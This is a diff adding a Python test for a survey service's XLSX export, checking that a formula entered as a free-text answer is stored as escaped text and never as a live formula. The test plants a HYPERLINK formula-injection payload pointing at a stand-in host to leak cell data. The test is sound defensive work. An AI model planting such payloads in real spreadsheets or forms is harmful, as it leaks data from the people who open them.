@@ -99,3 +99,32 @@ def test_answers_read_as_people_wrote_them() -> None:
     assert answer_text(rating, 7) == "7" and numeric(rating, 7) == 7.0
     assert answer_text(yes_no, "yes") == "Да" and numeric(yes_no, "no") == 0
     assert answer_text(text, "") == "—" and numeric(text, "слова") is None
+
+
+async def test_a_formula_typed_as_an_answer_is_text_in_the_curators_export(surveys) -> None:  # noqa: F811
+    """Issue 13, M2: a mentee types `=HYPERLINK(…)` as a free answer; the curator's XLSX of the
+    answers shows it as text (apostrophe), never as a formula; ratings stay numbers."""
+    from io import BytesIO
+
+    from openpyxl import load_workbook
+
+    from shared.auth import COOKIE_NAME
+    from shared.web import issue_session
+    from tests.component.helpers import bearer
+    from tests.conftest import SECRET
+
+    service, client = surveys
+    planted = '=HYPERLINK("http://x.example/?"&A1,"Подробнее")'
+    mentee = bearer("mentee", "school", "s1", sub="e1")
+    response = await client.post("/api/v1/responses", headers=mentee, json={
+        "instrument": {"code": "satisfaction_mentee", "version": 2}, "respondent_id": "e1", "answers": answers(planted, 9)})
+    assert response.status_code == 201, response.text
+    client.cookies.set(COOKIE_NAME, issue_session(SECRET, READER.model_copy(update={"sid": "s-1"})))
+    export = await client.get("/answers.xlsx", params={"school_id": "s1", "instrument": "satisfaction_mentee:2"})
+    assert export.status_code == 200, export.text[:300]
+    assert export.headers["content-disposition"].startswith('attachment; filename="answers-satisfaction_mentee.xlsx"')
+    sheet = load_workbook(BytesIO(export.content)).active
+    cells = [c for line in sheet.iter_rows() for c in line if c.value is not None]
+    assert [c.coordinate for c in cells if c.data_type == "f"] == []
+    assert "'" + planted in {c.value for c in cells}
+    assert 9 in {c.value for c in cells if c.data_type == "n"}
